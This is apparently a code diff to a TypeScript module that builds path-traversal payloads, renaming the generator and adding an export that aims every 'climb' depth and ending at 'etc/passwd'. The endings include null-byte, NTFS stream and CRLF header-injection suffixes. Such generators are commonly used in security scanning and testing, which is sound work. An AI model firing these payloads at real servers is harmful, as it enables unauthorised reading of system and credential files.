@@ -34,7 +34,7 @@ const climbs = [
 const endings = ['', '%00', '%00.html', '%00.js', '?', '#', '/', '/.', '%20', '.', '::$DATA', ';.js', '%0a', '%0d%0aX-Injected:1']
 
 /** Every target behind one to six climbs, and with every ending. */
-export function traversals(targets: string[]): string[] {
+export function traversalsTo(targets: string[]): string[] {
   const paths = climbs.flatMap((climb) => [1, 2, 3, 6].flatMap((depth) => targets.map((target) => climb.repeat(depth) + target)))
   return [
     ...paths,
@@ -42,3 +42,6 @@ export function traversals(targets: string[]): string[] {
     ...targets.flatMap((target) => endings.map((ending) => `${target}${ending}`)),
   ]
 }
+
+/** The same, to a file that every system has. */
+export const traversals = traversalsTo(['etc/passwd'])
